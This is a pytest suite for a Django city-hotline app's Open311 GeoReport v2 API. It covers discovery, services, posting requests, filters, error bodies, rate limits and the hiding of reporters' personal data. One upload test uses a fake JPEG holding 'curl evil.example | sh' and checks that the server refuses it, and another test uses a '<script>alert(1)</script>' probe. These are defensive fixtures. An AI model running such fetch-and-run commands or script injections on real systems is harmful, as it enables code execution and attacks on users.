"""Open311 GeoReport v2 at /open311/v2/: what a city app or FixMyStreet sees, in JSON and XML."""

from __future__ import annotations

import xml.etree.ElementTree as ET
from datetime import datetime, timedelta

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.utils import timezone

from guichet.accounts import services as accounts
from guichet.hotline import services
from guichet.hotline.models import Attachment, Request
from tests.hotline.world import LAT, LON, photo

BASE = "/open311/v2"
FORMATS = ["json", "xml"]
PRIVATE = ("Wang Xiaoming", "Wang", "Xiaoming", "13900000042", "wang@example.org")


@pytest.fixture
def api_key(hotline_world):
    _token, secret = accounts.issue_api_token(
        hotline_world.citizen, name="city app", scopes=["hotline:report"]
    )
    return secret


def xml(response) -> ET.Element:
    assert response["Content-Type"] == "text/xml; charset=utf-8"
    assert response.content.startswith(b'<?xml version="1.0" encoding="utf-8"?>')
    return ET.fromstring(response.content)


def body(response, fmt: str):
    """The document as Python: JSON as is; XML as the root element."""
    if fmt == "json":
        assert response["Content-Type"].startswith("application/json")
        return response.json()
    return xml(response)


def error_of(response, status: int, fmt: str) -> str:
    """The spec's errors body, checked in either format; returns the description."""
    assert response.status_code == status, response.content[:300]
    if fmt == "json":
        errors = response.json()
        assert isinstance(errors, list) and len(errors) == 1
        assert errors[0]["code"] == status
        return errors[0]["description"]
    root = xml(response)
    assert root.tag == "errors"
    error = root.find("error")
    assert error.findtext("code") == str(status)
    return error.findtext("description")


def pothole_form(api_key: str, **extra) -> dict:
    return {
        "api_key": api_key,
        "service_code": "road-damage",
        "lat": str(LAT),
        "long": str(LON),
        "attribute[size]": "large",
        "description": "Deep pothole in front of the school gate",
        **extra,
    }


def make(world, *, category=None, days_ago: float = 0, **fields) -> Request:
    request = services.report(
        channel="web",
        kind="report",
        title=fields.pop("title", "Something is broken"),
        category=category or world.noise,
        lat=LAT,
        lon=LON,
        **fields,
    )
    if days_ago:
        Request.objects.filter(pk=request.pk).update(
            created_at=timezone.now() - timedelta(days=days_ago)
        )
    return request


def numbers(response) -> list[str]:
    return [row["service_request_id"] for row in response.json()]


# --- Discovery and services -------------------------------------------------------------------


def test_discovery_names_the_endpoint_and_its_formats(client, db):
    document = client.get(f"{BASE}/discovery.json").json()
    assert set(document) == {"changeset", "contact", "key_service", "endpoints"}
    (endpoint,) = document["endpoints"]
    assert endpoint["specification"] == "http://wiki.open311.org/GeoReport_v2"
    assert endpoint["url"] == "http://testserver/open311/v2"
    assert endpoint["type"] == "production"
    assert endpoint["formats"] == ["text/xml", "application/json"]

    root = xml(client.get(f"{BASE}/discovery.xml"))
    assert root.tag == "discovery"
    assert root.findtext("endpoints/endpoint/url") == "http://testserver/open311/v2"
    assert [f.text for f in root.findall("endpoints/endpoint/formats/format")] == [
        "text/xml",
        "application/json",
    ]


def test_services_are_the_reportable_categories_in_the_asked_language(client, hotline_world):
    services_ = client.get(f"{BASE}/services.json").json()
    assert {s["service_code"] for s in services_} == {"road-damage", "noise", "neighbours"}
    road = next(s for s in services_ if s["service_code"] == "road-damage")
    assert road["service_name"] == "Road damage"
    assert road["metadata"] is True and road["type"] == "realtime"
    assert set(road) == {
        "service_code",
        "service_name",
        "description",
        "metadata",
        "type",
        "keywords",
        "group",
    }
    chinese = client.get(f"{BASE}/services.json?locale=zh-hans").json()
    assert "道路破损" in {s["service_name"] for s in chinese}
    by_header = client.get(f"{BASE}/services.json", HTTP_ACCEPT_LANGUAGE="zh-hans").json()
    assert "噪音扰民" in {s["service_name"] for s in by_header}

    root = xml(client.get(f"{BASE}/services.xml"))
    assert root.tag == "services"
    noise = next(s for s in root.findall("service") if s.findtext("service_code") == "noise")
    assert noise.findtext("metadata") == "false"
    assert noise.findtext("service_name") == "Noise"


def test_service_definition_lists_the_attributes(client, hotline_world):
    definition = client.get(f"{BASE}/services/road-damage.json").json()
    assert definition["service_code"] == "road-damage"
    (size,) = definition["attributes"]
    assert size["code"] == "size" and size["datatype"] == "singlevaluelist"
    assert size["variable"] is True and size["required"] is True and size["order"] == 1
    assert size["values"] == [{"key": "small", "name": "Small"}, {"key": "large", "name": "Large"}]

    root = xml(client.get(f"{BASE}/services/road-damage.xml"))
    assert root.tag == "service_definition"
    attribute = root.find("attributes/attribute")
    assert attribute.findtext("required") == "true"
    assert [v.findtext("key") for v in attribute.findall("values/value")] == ["small", "large"]


@pytest.mark.parametrize("fmt", FORMATS)
def test_unknown_or_private_service_is_not_found(client, hotline_world, fmt):
    assert "nope" in error_of(client.get(f"{BASE}/services/nope.{fmt}"), 404, fmt)
    # The business desk's categories are not reportable in public.
    error_of(client.get(f"{BASE}/services/business-financing.{fmt}"), 404, fmt)


# --- Posting a request ------------------------------------------------------------------------


@pytest.mark.parametrize("fmt", FORMATS)
def test_post_with_a_photo_then_follow_it(hotline_world, api_key, fmt):
    client = Client(enforce_csrf_checks=True)  # an API key, no cookie: no CSRF token needed
    response = client.post(f"{BASE}/requests.{fmt}", pothole_form(api_key, media=photo()))
    assert response.status_code == 200, response.content
    if fmt == "json":
        (created,) = response.json()
        number = created["service_request_id"]
        assert set(created) == {"service_request_id", "service_notice", "account_id"}
        assert created["service_notice"] == "Sent to the service that handles it."
    else:
        root = xml(response)
        assert root.tag == "service_requests"
        number = root.findtext("request/service_request_id")
        assert root.find("request/token") is None  # realtime: an id, not a token
    stored = Request.objects.get(number=number)
    assert stored.channel == "api" and stored.kind == "report"
    assert stored.attributes == {"size": "large"}
    assert stored.attachments.get().is_image
    assert stored.submitted_via_key

    shown = client.get(f"{BASE}/requests/{number}.{fmt}")
    assert shown.status_code == 200
    if fmt == "json":
        (row,) = shown.json()
        assert row["status"] == "open" and row["service_code"] == "road-damage"
        assert row["lat"] == round(LAT, 3) and row["long"] == round(LON, 3)
        # Our copies of reporters' photos are never published (faces, number plates).
        assert row["media_url"] is None
        assert row["description"] == "Deep pothole in front of the school gate"
        assert row["requested_datetime"][19:] in ("+08:00", "+00:00")
    else:
        request = xml(shown).find("request")
        assert request.findtext("status") == "open"
        assert request.findtext("service_code") == "road-damage"
        assert request.findtext("media_url") == ""


@pytest.mark.parametrize("fmt", FORMATS)
def test_token_gives_the_request_id(client, hotline_world, fmt):
    request = make(hotline_world)
    response = client.get(f"{BASE}/tokens/{request.token}.{fmt}")
    if fmt == "json":
        assert response.json() == [
            {"service_request_id": request.number, "token": str(request.token)}
        ]
    else:
        assert xml(response).findtext("request/service_request_id") == request.number
    error_of(client.get(f"{BASE}/tokens/00000000-0000-0000-0000-000000000000.{fmt}"), 404, fmt)
    error_of(client.get(f"{BASE}/tokens/not-a-token.{fmt}"), 404, fmt)


def test_multivalue_attributes_and_address_only(client, hotline_world, api_key):
    hotline_world.noise.attributes = [
        {
            "code": "when",
            "datatype": "multivaluelist",
            "required": False,
            "description": "When does it happen?",
            "values": [{"key": "day", "name": "Day"}, {"key": "night", "name": "Night"}],
        }
    ]
    hotline_world.noise.save()
    response = client.post(
        f"{BASE}/requests.json",
        {
            "api_key": api_key,
            "service_code": "noise",
            "address_string": "88 Wuning Road",
            "attribute[when][]": ["day", "night"],
            "media_url": "https://photos.example.org/123.jpg",
        },
    )
    assert response.status_code == 200, response.content
    stored = Request.objects.get(number=response.json()[0]["service_request_id"])
    assert stored.attributes == {"when": ["day", "night"]} and stored.address == "88 Wuning Road"
    (row,) = client.get(f"{BASE}/requests/{stored.number}.json").json()
    assert row["media_url"] == "https://photos.example.org/123.jpg"
    assert row["address"] == "88 Wuning Road" and row["lat"] is None


# --- Refusals ---------------------------------------------------------------------------------


@pytest.mark.parametrize("fmt", FORMATS)
def test_post_refusals_use_the_errors_body(client, hotline_world, api_key, fmt, make_user):
    url = f"{BASE}/requests.{fmt}"
    form = pothole_form(api_key)
    assert "api_key" in error_of(client.post(url, {**form, "api_key": ""}), 400, fmt)
    assert "api_key" in error_of(client.post(url, {**form, "api_key": "gch_x_bad"}), 403, fmt)
    _token, inbox_only = accounts.issue_api_token(make_user(), name="other", scopes=["inbox"])
    error_of(client.post(url, {**form, "api_key": inbox_only}), 403, fmt)
    assert "service_code" in error_of(client.post(url, {**form, "service_code": ""}), 400, fmt)
    assert "potholes" in error_of(client.post(url, {**form, "service_code": "potholes"}), 404, fmt)
    no_place = {k: v for k, v in form.items() if k not in ("lat", "long")}
    assert "location" in error_of(client.post(url, no_place), 400, fmt)
    half_place = {k: v for k, v in form.items() if k != "long"}
    error_of(client.post(url, half_place), 400, fmt)
    no_size = {k: v for k, v in form.items() if k != "attribute[size]"}
    assert "How big is it?" in error_of(client.post(url, no_size), 400, fmt)
    wrong_size = {**form, "attribute[size]": "enormous"}
    assert "enormous" in error_of(client.post(url, wrong_size), 400, fmt)
    other_city = {**form, "jurisdiction_id": "elsewhere.example"}
    assert "jurisdiction" in error_of(client.post(url, other_city), 404, fmt)
    assert not Request.objects.exists()


@pytest.mark.parametrize("fmt", FORMATS)
def test_get_refusals_use_the_errors_body(client, hotline_world, fmt):
    assert "start_date" in error_of(
        client.get(f"{BASE}/requests.{fmt}?start_date=yesterday"), 400, fmt
    )
    error_of(client.get(f"{BASE}/requests.{fmt}?end_date=2026-13-45T00:00:00Z"), 400, fmt)
    error_of(client.get(f"{BASE}/requests.{fmt}?status=fixed"), 400, fmt)
    error_of(client.get(f"{BASE}/requests.{fmt}?page_size=5000"), 400, fmt)
    assert "12345-19990101-00001" in error_of(
        client.get(f"{BASE}/requests/12345-19990101-00001.{fmt}"), 404, fmt
    )
    error_of(client.get(f"{BASE}/services.{fmt}?jurisdiction_id=elsewhere.example"), 404, fmt)
    error_of(client.delete(f"{BASE}/services.{fmt}"), 405, fmt)
    error_of(client.get(f"{BASE}/nothing-here.{fmt}"), 404, fmt)


def test_unknown_format_is_not_found(client, db):
    assert client.get(f"{BASE}/services.csv").status_code == 404
    assert client.get(f"{BASE}/discovery.html").status_code == 404
    assert client.get(f"{BASE}/services.json?jurisdiction_id=guichet.example").status_code == 200


def test_a_script_named_jpg_is_refused_and_nothing_is_stored(client, hotline_world, api_key):
    script = SimpleUploadedFile(
        "pothole.jpg", b"#!/bin/sh\ncurl evil.example | sh\n", content_type="image/jpeg"
    )
    response = client.post(f"{BASE}/requests.json", pothole_form(api_key, media=script))
    description = error_of(response, 400, "json")
    assert "pothole.jpg" in description and "not accepted" in description
    assert not Request.objects.exists()
    assert not Attachment.objects.exists()


def test_posting_is_rate_limited_per_key(client, hotline_world, api_key, settings):
    settings.GUICHET_OPEN311_RATE = "2/h"
    url = f"{BASE}/requests.json"
    for _ in range(2):
        assert client.post(url, pothole_form(api_key)).status_code == 200
    refused = client.post(url, pothole_form(api_key))
    error_of(refused, 429, "json")
    assert int(refused["Retry-After"]) > 0
    assert Request.objects.count() == 2


# --- Lists and filters ------------------------------------------------------------------------


def test_list_filters(client, hotline_world):
    world = hotline_world
    recent = make(world, category=world.pothole, attributes={"size": "small"}, days_ago=1)
    noise = make(world, days_ago=2)
    closed = make(world)
    services.answer_on_first_contact(closed, by=world.operator, answer="The works stop at 10pm.")
    Request.objects.filter(pk=closed.pk).update(created_at=timezone.now() - timedelta(days=3))
    old = make(world, days_ago=120)

    everything = numbers(client.get(f"{BASE}/requests.json"))
    assert everything == [recent.number, noise.number, closed.number]  # newest first, 90 days
    assert numbers(client.get(f"{BASE}/requests.json?status=closed")) == [closed.number]
    assert numbers(client.get(f"{BASE}/requests.json?status=open,closed")) == everything
    assert numbers(client.get(f"{BASE}/requests.json?status=open")) == [
        recent.number,
        noise.number,
    ]
    assert numbers(client.get(f"{BASE}/requests.json?service_code=road-damage")) == [recent.number]
    start = (timezone.localtime() - timedelta(days=150)).replace(microsecond=0).isoformat()
    end = (timezone.localtime() - timedelta(days=100)).replace(microsecond=0).isoformat()
    # The "+" of the offset, sent unencoded, arrives as a space: still understood.
    window = client.get(f"{BASE}/requests.json?start_date={start}&end_date={end}")
    assert numbers(window) == [old.number]
    day = timezone.localdate() - timedelta(days=2)
    on_the_day = client.get(f"{BASE}/requests.json?start_date={day}&end_date={day}")
    assert numbers(on_the_day) == [noise.number]
    utc = client.get(f"{BASE}/requests.json", {"start_date": "2000-01-01T00:00:00Z"})
    assert len(utc.json()) == 4
    ids = client.get(
        f"{BASE}/requests.json?service_request_id={old.number},{recent.number}&status=closed"
    )
    assert set(numbers(ids)) == {old.number, recent.number}  # the ids override the rest
    page_two = client.get(f"{BASE}/requests.json?page=2&page_size=2")
    assert numbers(page_two) == [closed.number]
    root = xml(client.get(f"{BASE}/requests.xml?status=closed"))
    (request,) = root.findall("request")
    assert request.findtext("status") == "closed"
    assert request.findtext("status_notes") == "The works stop at 10pm."


def test_a_duplicate_follows_its_parent_and_other_requests_show_little(client, hotline_world):
    world = hotline_world
    parent = make(world, description="Drilling all night at the building site")
    child = make(world, description="Drilling at night again")
    services.link_duplicate(child, parent=parent, by=world.operator)
    (row,) = client.get(f"{BASE}/requests/{child.number}.json").json()
    assert row["status"] == "open" and parent.number in row["status_notes"]
    assert row["agency_responsible"] == "HOUSING"
    assert row["expected_datetime"] is None  # its own work order was cancelled
    (row,) = client.get(f"{BASE}/requests/{parent.number}.json").json()
    assert row["expected_datetime"] is not None
    desk = services.report(
        channel="phone",
        kind="help",
        title="Loan for my restaurant",
        description="We need 2 million for the new kitchen",
        category=world.financing,
        address="12 Kangding Road",
        lat=LAT,
        lon=LON,
    )
    (row,) = client.get(f"{BASE}/requests/{desk.number}.json").json()
    assert row["description"] is None and row["status_notes"] is None
    assert row["address"] == "Jing'an"
    assert row["service_code"] == "business-financing"


def test_updates_follow_dispatch_reply_and_close(client, hotline_world, api_key):
    world = hotline_world
    response = client.post(f"{BASE}/requests.json", pothole_form(api_key))
    number = response.json()[0]["service_request_id"]
    request = Request.objects.get(number=number)
    order = request.orders.get()
    services.accept_order(order, by=world.reviewer)
    services.reply_order(
        order, by=world.reviewer, reply="Filled the pothole.", files=[photo("fix.jpg")]
    )
    services.record_feedback(request, rating=5, resolved=True, how="call", by=world.operator)

    updates = client.get(f"{BASE}/servicerequestupdates.json?service_request_id={number}").json()
    assert [u["status"] for u in updates] == ["open"] * 4 + ["closed"]
    assert set(updates[0]) == {
        "update_id",
        "service_request_id",
        "status",
        "updated_datetime",
        "description",
        "media_url",
    }
    replied = next(u for u in updates if u["description"] == "Filled the pothole.")
    assert replied["media_url"] is None
    assert all(u["service_request_id"] == number for u in updates)

    root = xml(client.get(f"{BASE}/servicerequestupdates.xml"))
    assert root.tag == "service_request_updates"
    assert root.findall("request_update")[-1].findtext("status") == "closed"
    (row,) = client.get(f"{BASE}/requests/{number}.json").json()
    assert row["status"] == "closed"
    assert row["updated_datetime"] is not None and row["agency_responsible"] == "MKT"
    later = (timezone.now() + timedelta(days=1)).strftime("%Y-%m-%dT%H:%M:%SZ")
    assert client.get(f"{BASE}/servicerequestupdates.json?start_date={later}").json() == []


@pytest.mark.parametrize("fmt", FORMATS)
def test_no_personal_data_in_public_answers(client, hotline_world, api_key, fmt):
    form = pothole_form(
        api_key,
        first_name="Xiaoming",
        last_name="Wang",
        phone="13900000042",
        email="wang@example.org",
        description="Pothole. Call Wang Xiaoming on 139 0000 0042 or wang@example.org"
        "<script>alert(1)</script>",
    )
    number = client.post(f"{BASE}/requests.json", form).json()[0]["service_request_id"]
    stored = Request.objects.get(number=number)
    assert stored.reporter_phone == "13900000042"  # the hotline keeps it, the public never sees it
    pages = [
        client.get(f"{BASE}/requests.{fmt}"),
        client.get(f"{BASE}/requests/{number}.{fmt}"),
        client.get(f"{BASE}/servicerequestupdates.{fmt}"),
        client.get(f"{BASE}/tokens/{stored.token}.{fmt}"),
    ]
    for page in pages:
        assert page.status_code == 200
        text = page.content.decode()
        for secret in (*PRIVATE, "139 0000 0042", "<script>", "&lt;script"):
            assert secret not in text
    assert "Pothole." in pages[1].content.decode()


def test_a_page_of_fifty_requests_takes_a_fixed_number_of_queries(
    client, hotline_world, django_assert_max_num_queries
):
    world = hotline_world
    for i in range(50):
        make(
            world,
            category=world.pothole if i % 2 else world.noise,
            attributes={"size": "small"},
            media_urls=[f"https://photos.example.org/{i}.jpg"] if i % 3 == 0 else (),
            dispatch=i % 5 != 0,
        )
    with django_assert_max_num_queries(6):
        response = client.get(f"{BASE}/requests.json")
    assert len(response.json()) == 50
    with django_assert_max_num_queries(6):
        assert client.get(f"{BASE}/requests.xml").status_code == 200
    with django_assert_max_num_queries(6):
        assert len(client.get(f"{BASE}/servicerequestupdates.json").json()) >= 50


def test_dates_are_w3c_with_an_offset(client, hotline_world):
    make(hotline_world)
    (row,) = client.get(f"{BASE}/requests.json").json()
    moment = datetime.fromisoformat(row["requested_datetime"])
    assert moment.tzinfo is not None and moment.microsecond == 0
    assert len(row["requested_datetime"]) == 25
